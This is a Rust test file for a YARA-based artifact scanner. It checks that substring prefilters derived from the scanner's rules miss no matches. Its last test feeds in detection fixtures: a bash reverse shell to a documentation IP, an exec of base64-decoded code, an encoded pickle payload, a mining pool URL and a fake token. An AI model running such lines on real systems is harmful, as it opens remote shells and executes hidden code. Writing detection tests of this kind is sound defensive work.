//! Nothing that a built-in rule matches is kept from it: the needles are those that the rules' sources give, and whatever a rule can match holds one.

#![expect(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "a test that meets a surprise ends there")]

mod derive;

use std::path::Path;
use std::sync::Arc;
use std::{env, fs};

use derive::Texts;
use picket_artifact::{ScanOptions, scan};
use picket_yara::{IDENTITY, Limits, NEEDLES, NEEDLES_ANY_CASE, Pack, RuleSet, built_in};
use yara_x_parser::ast::{AST, Item};

/// What the sources give, as the text of `needles.rs`.
fn derived() -> String {
    let mut needles = derive::Needles::default();
    for pack in built_in() {
        for (rule, of_rule) in derive::of_pack(&pack.text) {
            let of_rule = of_rule.unwrap_or_else(|| panic!("{rule} of {} can match without any text that is rare enough to look for", pack.origin));
            needles.any.extend(of_rule.any);
            needles.any_case.extend(of_rule.any_case);
            needles.pairs.extend(of_rule.pairs);
        }
    }
    // What holds a shorter one need not be looked for itself.
    let holds = |long: &Vec<u8>, short: &Vec<u8>| long.len() > short.len() && long.windows(short.len()).any(|window| window == short);
    let shortest = |texts: &Texts| texts.iter().filter(|long| !texts.iter().any(|short| holds(long, short))).cloned().collect::<Texts>();
    let list = |texts: &Texts, before: &str| texts.iter().map(|text| format!("{before}b\"{}\",\n", text.escape_ascii())).collect::<String>();
    let pairs: String =
        needles.pairs.iter().map(|(one, other)| format!("    (&[\n{}    ], &[\n{}    ]),\n", list(one, "        "), list(other, "        "))).collect();
    let identity = RuleSet::compile(&built_in(), Limits::default()).unwrap().identity();
    let bytes: Vec<String> = identity.as_bytes().chunks(2).map(|pair| format!("0x{}", String::from_utf8_lossy(pair))).collect();
    format!(
        "//! Written by `PICKET_UPDATE_RULES=1 cargo test --workspace --test yara_sieve` from `rules/yara`. Do not edit.\n\n\
         /// Identity of the packs that the needles are of.\n#[rustfmt::skip]\npub const IDENTITY: [u8; 32] = [\n    {},\n    {},\n];\n\n\
         /// Whatever a built-in rule matches holds one of these, or one of the other lists.\n\
         #[rustfmt::skip]\npub const NEEDLES: &[&[u8]] = &[\n{}];\n\n\
         /// As [`NEEDLES`], in upper or lower case.\n\
         #[rustfmt::skip]\npub const NEEDLES_ANY_CASE: &[&[u8]] = &[\n{}];\n\n\
         /// Two lists of needles.\npub type Pair = (&'static [&'static [u8]], &'static [&'static [u8]]);\n\n\
         /// As [`NEEDLES`]: one of each list, in upper or lower case.\n#[rustfmt::skip]\npub const PAIRS: &[Pair] = &[\n{pairs}];\n",
        bytes[..16].join(", "),
        bytes[16..].join(", "),
        list(&shortest(&needles.any), "    "),
        list(&shortest(&needles.any_case), "    ")
    )
}

#[test]
fn the_needles_are_those_of_the_rules() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/needles.rs");
    let derived = derived();
    if env::var_os("PICKET_UPDATE_RULES").is_some() {
        fs::write(path, derived).unwrap();
        return;
    }
    assert!(
        fs::read_to_string(path).unwrap() == derived,
        "crates/yara/src/needles.rs is out of step: run PICKET_UPDATE_RULES=1 cargo test --workspace --test yara_sieve"
    );
    assert_eq!(RuleSet::compile(&built_in(), Limits::default()).unwrap().identity(), IDENTITY.map(|byte| format!("{byte:02x}")).concat());
}

#[test]
fn whatever_a_pattern_matches_holds_one_of_its_needles() {
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut choose = |below: usize| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(state >> 33).unwrap() % below.max(1)
    };
    let mut tried = 0;
    for pack in built_in() {
        let ast = AST::from(pack.text.as_str());
        for pattern in ast.items.iter().filter_map(|item| if let Item::Rule(rule) = item { rule.patterns.as_ref() } else { None }).flatten() {
            let (Some(needles), Some(expression)) = (derive::of_pattern(pattern), derive::parsed(pattern)) else { continue };
            for _ in 0..300 {
                let text = derive::sample(&expression, &mut choose);
                let lower = text.to_ascii_lowercase();
                let pair = || needles.pairs.iter().any(|(one, other)| holds_one(&lower, one) && holds_one(&lower, other));
                let held = holds_one(&text, &needles.any) || holds_one(&lower, &needles.any_case) || pair();
                assert!(held, "{}: {}", pattern.identifier().name, text.escape_ascii());
            }
            tried += 1;
        }
    }
    assert!(tried > 50, "only {tried} patterns have needles");
}

fn holds_one(text: &[u8], needles: &Texts) -> bool {
    needles.iter().any(|needle| text.windows(needle.len()).any(|window| window == needle))
}

#[test]
fn no_condition_without_a_pattern_is_sieved() {
    let of = |condition: &str| {
        let text = format!("rule r {{ strings: $a = \"first-mark\" $b = \"other-mark\" $c = \"abc\" condition: {condition} }}");
        derive::of_pack(&text).remove("r").unwrap().map(|needles| needles.any.into_iter().map(|one| String::from_utf8(one).unwrap()).collect::<Vec<_>>())
    };
    let both = Some(vec!["first-mark".to_owned(), "other-mark".to_owned()]);
    assert_eq!(of("$a and not $b"), Some(vec!["first-mark".to_owned()]));
    assert_eq!(of("any of ($a, $b)"), both);
    assert_eq!(of("$a or #b >= 2"), both);
    assert_eq!(of("all of them and filesize > 3").map(|needles| needles.len()), Some(1));
    assert_eq!(of("2 of them"), both);
    for without in ["true", "not $a", "$a or filesize < 10", "#a == 0", "#a >= 0", "$c", "any of them", "1 of them", "none of them", "$a or not $b"] {
        assert_eq!(of(without), None, "{without}");
    }
}

#[test]
fn sieved_rules_find_what_rules_over_everything_find() {
    // One pack more makes another set, which is applied to everything.
    let mut packs = built_in();
    packs.push(Pack::new("own.yar", "rule never { condition: false }"));
    let [sieved, all] = [built_in(), packs].map(|packs| Arc::new(RuleSet::compile(&packs, Limits::default()).unwrap()));
    let honest: &[u8] = b"{\"model_type\": \"bert\", \"hidden_size\": 768, \"layers\": [\"encoder.layer.0.attention.self.query.weight\"]}";
    assert!(!sieved.may_match(honest) && all.may_match(honest));
    let mut found = 0;
    for needle in NEEDLES_ANY_CASE.iter().map(|needle| needle.to_ascii_uppercase()).chain(NEEDLES.iter().map(|needle| needle.to_vec())) {
        assert!(sieved.may_match(&needle), "{}", needle.escape_ascii());
    }
    for text in [
        "import base64\nEXEC = 1\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n",
        "{\"state\": \"Y3Bvc2l4CnN5c3RlbQooUyd0cnVlJwp0Ui4=\"}",
        "url: stratum+tcp://pool.example.org:3333\n",
        "key: hf_AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh\u{1}\n",
    ] {
        let reports = [&sieved, &all].map(|rules| {
            let rules: Arc<dyn picket_artifact::RegionRules> = Arc::<RuleSet>::clone(rules);
            let mut report = scan(&text.as_bytes(), "notes.txt", &ScanOptions { region_rules: Some(rules), ..ScanOptions::default() });
            report.rules_applied = None;
            format!("{report:?}")
        });
        assert_eq!(reports[0], reports[1]);
        found += usize::from(reports[0].contains("PICKET-YAR-"));
    }
    assert!(found >= 4, "only {found} of the texts match a rule");
}
